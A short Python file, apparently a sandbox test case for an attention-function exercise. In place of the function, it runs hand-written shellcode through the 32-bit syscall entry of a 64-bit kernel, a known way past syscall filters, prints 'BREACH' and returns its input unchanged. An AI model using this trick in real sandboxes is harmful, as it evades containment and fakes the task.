"""Makes a call by the 32-bit door of a 64-bit kernel, where the same numbers mean other calls."""
# exercise: attention/scaled_dot_product
# status: error
# says: crashed the Python process
# only: x86_64

import ctypes
import mmap

page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(bytes.fromhex("b802000000cd80c3"))  # mov eax, 2 (fork, of i386); int 0x80; ret
door = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))


def sdpa(Q, K, V, mask=None):
    print("BREACH", door())
    return V
